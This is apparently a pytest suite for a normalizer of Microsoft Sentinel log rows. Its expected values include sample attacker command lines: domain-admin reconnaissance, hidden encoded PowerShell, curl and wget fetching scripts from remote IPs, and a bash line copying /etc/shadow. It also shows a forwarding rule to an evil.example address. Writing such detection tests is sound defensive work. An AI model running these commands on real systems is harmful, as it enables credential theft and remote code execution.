"""Microsoft Sentinel / Log Analytics rows: each table handed to its parser, detected per record."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schemas.event import Event, Origin
from udfs.normalize import sentinel
from udfs.normalize.files import iter_records
from udfs.normalize.normalizer import Normalizer

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "normalize"
ORIGIN = Origin(file="sentinel.jsonl", line=1)


def get(record: dict[str, Any], path: str) -> Any:
    value: Any = record
    for part in path.split("."):
        if not isinstance(value, dict) or part not in value:
            return None
        value = value[part]
    return value


def rows() -> list[bytes]:
    return (FIXTURES / "sentinel.jsonl").read_bytes().splitlines()


def events() -> list[dict[str, Any]]:
    out = []
    normalizer = Normalizer()
    for payload, origin in iter_records(FIXTURES / "sentinel.jsonl"):
        outcome = normalizer.normalize(payload, origin)
        assert outcome.event is not None, outcome.dead_letter
        assert outcome.source_format == "sentinel"
        out.append(outcome.event)
    return out


# one expectation dict per row of sentinel.jsonl, in file order
EXPECT: list[dict[str, Any]] = [
    {  # SecurityEvent 4624, columns only (Log Analytics agent)
        "source_format": "windows_sentinel",
        "parser_version": "sentinel/1+windows_sentinel/1",
        "timestamp_ms": 1714564800123,  # TimeGenerated, 7 fraction digits
        "event.code": "4624",
        "user.name": "alice",
        "source.ip": "10.0.0.7",
        "authentication.logon_type": "Network",
        "original.LogonProcessName": "NtLmSsp",
        "original._untrimmed.LogonProcessName": "NtLmSsp ",
        "original.Channel": "Security",
        "original.EventID": 4624,
        "original.Provider_Name": "Microsoft-Windows-Security-Auditing",
        "original.CommandLine": None,  # an empty column is a field the event does not have
        "id": "6a1c5f3e-0000-4000-8000-000000000001",
    },
    {  # SecurityEvent 4688, EventData XML (AMA) over an empty CommandLine column
        "process.executable": "C:\\Windows\\System32\\cmd.exe",
        "process.command_line": 'cmd.exe /c whoami /all & net group "domain admins" /domain',
        "process.parent.executable": "C:\\Windows\\explorer.exe",
        "process.integrity_level": "High",
        "original.EventData": None,  # expanded into its fields, not kept as text
        "original.MandatoryLabel": "S-1-16-12288",
    },
    {  # Event: Sysmon 1 in the agent's DataItem XML
        "source_format": "windows_sentinel",
        "event.module": "sysmon",
        "event.action": "process-created",
        "original.Channel": "Microsoft-Windows-Sysmon/Operational",
        "original.Provider_Name": "Microsoft-Windows-Sysmon",
        "original.Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "process.command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA",
        "process.hash.sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
        "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
    },
    {  # Event: Sysmon 3 with EventData as JSON text
        "event.action": "network-connection",
        "destination.ip": "203.0.113.50",
        "destination.port": 443,
        "network.direction": "egress",
        "original.EventID": 3,
    },
    {  # Event: System 104, UserData names the cleared log
        "event.action": "event-log-cleared",
        "event.dataset": "System",
        "original.Channel": "Microsoft-Windows-Sysmon/Operational",
        "user.name": "alice",
    },
    {  # Event: Defender 1116, spaced names
        "event.module": "defender",
        "rule.name": "HackTool:Win32/Mimikatz.D",
        "file.path": "C:\\Users\\alice\\Downloads\\mimikatz.exe",
        "original.SourceName": "Real-Time Protection",
        "original.Source Name": "Real-Time Protection",
        "original.ThreatName": "HackTool:Win32/Mimikatz.D",
    },
    {  # WindowsEvent: Sysmon 11, Data as an object
        "event.action": "file-created",
        "file.path": "C:\\Users\\Public\\payload.exe",
        "host.name": "ws-02.corp.example",
        "id": "ws-02.corp.example/Microsoft-Windows-Sysmon/Operational/88412",
        "original.Data": None,
        "original.TargetFilename": "C:\\Users\\Public\\payload.exe",
    },
    {  # Syslog: Sysmon for Linux
        "source_format": "sysmon_linux",
        "parser_version": "sentinel/1+sysmon_linux/1",
        "timestamp_ms": 1714565040500,  # TimeGenerated, not the XML's TimeCreated
        "original.TimeCreated": "2024-05-01T12:04:00.123456000Z",
        "process.command_line": "curl -s http://198.51.100.9/x.sh -o /tmp/x.sh",
        "host.os.family": "linux",
        "original.sentinel.HostIP": "10.0.1.10",
    },
    {  # Syslog: Sysmon for Linux with unescaped &, &lt and <
        "source_format": "sysmon_linux",
        "process.command_line": "bash -c echo &lt x && cat < /etc/shadow > /tmp/.s & disown",
        "original.CommandLine": "bash -c echo &lt x && cat < /etc/shadow > /tmp/.s & disown",
    },
    {  # Syslog: AUOMS execve
        "source_format": "auditd",
        "parser_version": "sentinel/1+auditd/1",
        "event.category": ["process"],
        "event.type": ["start"],
        "process.executable": "/usr/bin/wget",
        "process.command_line": "wget -q -O - http://203.0.113.80/i.sh",
        "process.working_directory": "/root",
        "user.name": "root",
        "user.target.id": "1000",
        "host.name": "web-02",  # from the row: AUOMS lines carry no node=
    },
    {  # Syslog: a kernel audit record via audisp
        "source_format": "auditd",
        "event.category": ["authentication"],
        "event.outcome": "success",
        "source.ip": "198.51.100.23",
        "host.name": "web-02",
    },
    {  # Syslog: plain
        "source_format": "syslog",
        "event.dataset": "syslog.auth",
        "event.severity": 6,
        "host.name": "web-03.corp.example",
        "host.hostname": "web-03",
        "host.ip": ["10.0.1.12"],
        "process.name": "sshd",
        "process.pid": 2231,
        "original.SyslogMessage": "Accepted publickey for deploy from 10.0.0.9 port 51514 ssh2: ED25519 SHA256:abc",
    },
    {  # SigninLogs: dynamic columns as JSON text
        "source_format": "entra_id",
        "parser_version": "sentinel/1+entra_id/1",
        "event.dataset": "azure.signinlogs",
        "event.outcome": "failure",
        "authentication.failure_reason": "Invalid username or password.",
        "authentication.method": "Password",
        "authentication.mfa": False,
        "source.ip": "198.51.100.44",
        "source.geo.city_name": "Lisbon",
        "user.email": "alice@corp.example",
        "original.category": "SignInLogs",
        "original.Status": {"errorCode": 50126, "failureReason": "Invalid username or password."},
        "original.MfaDetail": None,
    },
    {  # AADNonInteractiveUserSignInLogs: dynamic columns as objects
        "source_format": "entra_id",
        "event.dataset": "azure.noninteractiveusersigninlogs",
        "event.outcome": "success",
        "authentication.mfa": True,
        "source.ip": "2001:db8::44",
        "original.category": "NonInteractiveUserSignInLogs",
    },
    {  # AuditLogs: role assignment
        "source_format": "entra_id",
        "event.dataset": "azure.auditlogs",
        "event.category": ["iam"],
        "event.type": ["change"],
        "event.outcome": "success",
        "user.name": "alice@corp.example",
        "user.target.name": "mallory@corp.example",
        "user.target.roles": ["Global Administrator"],
        "user.target.privileged": True,
        "original.category": "AuditLogs",
        "original.Category": "RoleManagement",
    },
    {  # OfficeActivity: forwarding inbox rule
        "source_format": "m365",
        "parser_version": "sentinel/1+m365/1",
        "event.action": "New-InboxRule",
        "event.category": ["configuration"],
        "event.type": ["creation"],
        "event.outcome": "success",
        "source.ip": "198.51.100.44",
        "cloud.service": "Exchange",
        "original.Parameters": [{"Name": "ForwardTo", "Value": "drop@evil.example"}, {"Name": "Name", "Value": "fwd"}],
    },
    {  # OfficeActivity: SharePoint download
        "source_format": "m365",
        "event.category": ["file"],
        "event.type": ["access"],
        "file.name": "payroll.xlsx",
        "file.extension": "xlsx",
        "user.name": "bob@corp.example",
    },
]


def test_every_table_of_the_fixture_normalizes_with_key_fields() -> None:
    got = events()
    assert len(got) == len(EXPECT) == len(rows())
    for number, (event, expect) in enumerate(zip(got, EXPECT, strict=True), start=1):
        for path, want in expect.items():
            assert get(event, path) == want, f"row {number} {path}: {get(event, path)!r} != {want!r}"
        assert Event.model_validate(event).to_record() == event


def test_tables_are_detected_per_record_in_one_stream() -> None:
    """A mixed export: the format is chosen per row, from its Type, never once per file."""
    formats = [e["source_format"] for e in events()]
    assert formats[:7] == ["windows_sentinel"] * 7
    assert set(formats) == {"windows_sentinel", "sysmon_linux", "auditd", "syslog", "entra_id", "m365"}


def test_fixed_format_reads_the_same() -> None:
    fixed = Normalizer("sentinel")
    for payload in rows():
        assert fixed.normalize(payload, ORIGIN).event == Normalizer().normalize(payload, ORIGIN).event


def _row(index: int, **changes: Any) -> bytes:
    doc = orjson.loads(rows()[index])
    for key, value in changes.items():
        if value is ...:
            doc.pop(key, None)
        else:
            doc[key] = value
    return orjson.dumps(doc)


def _dead(payload: bytes) -> dict[str, Any]:
    outcome = Normalizer().normalize(payload, ORIGIN)
    assert outcome.event is None and outcome.dead_letter is not None
    assert outcome.dead_letter["source_format"] == "sentinel"
    return outcome.dead_letter


def test_unknown_table_names_the_tables_read() -> None:
    letter = _dead(_row(0, Type="AzureActivity"))
    assert letter["reason"] == "unknown_format"
    for table in ("SecurityEvent", "Event", "Syslog", "SigninLogs", "AuditLogs", "OfficeActivity"):
        assert table in letter["detail"]


def test_missing_time_is_named() -> None:
    letter = Normalizer("sentinel").normalize(_row(0, TimeGenerated=...), ORIGIN).dead_letter
    assert letter is not None and letter["reason"] == "missing_field"
    assert letter["detail"] == "TimeGenerated: required, missing"


def test_inner_errors_name_the_table_and_column() -> None:
    letter = _dead(_row(7, SyslogMessage="<Event><System><Provider Name='Linux-Sysmon'/></Syst"))
    assert letter["reason"] == "schema" and letter["detail"].startswith("Syslog row: SyslogMessage: ")
    letter = _dead(_row(12, Status="not json at all"))
    assert letter["reason"] == "schema"
    assert letter["detail"].startswith("SigninLogs row: Status: expected an object")


def test_xml_beyond_repair_is_a_bad_xml_dead_letter() -> None:
    broken = orjson.loads(rows()[8])["SyslogMessage"].replace("</Data><Data", "</Data></Data><Data", 1)
    letter = _dead(_row(8, SyslogMessage=broken))
    assert letter["reason"] == "bad_xml" and "Syslog row: SyslogMessage:" in letter["detail"]


def test_event_data_declarations_are_refused() -> None:
    xml = '<!DOCTYPE x [<!ENTITY a "aaaa">]><EventData><Data Name="x">&a;</Data></EventData>'
    letter = _dead(_row(3, EventData=xml))
    assert letter["reason"] == "bad_xml" and "DOCTYPE" in letter["detail"]


def test_every_table_is_documented() -> None:
    doc = (Path(__file__).resolve().parents[2] / "docs" / "event-model.md").read_text(encoding="utf-8")
    for table in sentinel.TABLES:
        assert f"`{table}`" in doc, table


# ---------------------------------------------------------------- property

columns = st.dictionaries(
    st.sampled_from(
        [
            "EventID",
            "Computer",
            "Channel",
            "EventData",
            "Data",
            "SyslogMessage",
            "Status",
            "LocationDetails",
            "TargetResources",
            "InitiatedBy",
            "Operation",
            "UserId",
            "ClientIP",
            "SubjectUserName",
            "EventLog",
            "Source",
        ]
    ),
    st.none()
    | st.integers(-5, 70000)
    | st.text(max_size=30)
    | st.sampled_from(
        [
            "{",
            "[1,2]",
            '{"a":',
            "<EventData><Data Name='x'>&</Data>",
            "type=SYSCALL msg=audit(1:2): x=1",
            "<Event><System><Provider Name='Linux-Sysmon'/></System></Event>",
            "{}",
            "[]",
        ]
    ),
    max_size=8,
)


@settings(max_examples=400, deadline=None, database=None)
@given(table=st.sampled_from([*sentinel.TABLES, "Other"]), extra=columns)
def test_property_any_row_gives_one_outcome_and_no_parser_bug(table: str, extra: dict[str, Any]) -> None:
    payload = orjson.dumps({"TimeGenerated": "2024-05-01T12:00:00Z", "Type": table, **extra})
    outcome = Normalizer().normalize(payload, ORIGIN)
    assert (outcome.event is None) != (outcome.dead_letter is None)
    if outcome.dead_letter is not None:
        assert outcome.dead_letter["reason"] != "parser_error", outcome.dead_letter
    else:
        assert outcome.event is not None
        assert outcome.event["timestamp_ms"] == 1714564800000
        assert outcome.event["parser_version"].startswith("sentinel/1+")


@pytest.mark.parametrize("table", sentinel.TABLES)
def test_row_of_every_table_without_its_payload_is_rejected_or_generic(table: str) -> None:
    """A bare row (Type + TimeGenerated): a named missing field, never a parser bug."""
    payload = orjson.dumps({"TimeGenerated": "2024-05-01T12:00:00Z", "Type": table})
    outcome = Normalizer().normalize(payload, ORIGIN)
    if outcome.dead_letter is not None:
        assert outcome.dead_letter["reason"] == "missing_field", outcome.dead_letter
        assert outcome.dead_letter["detail"].startswith(f"{table} row: ")
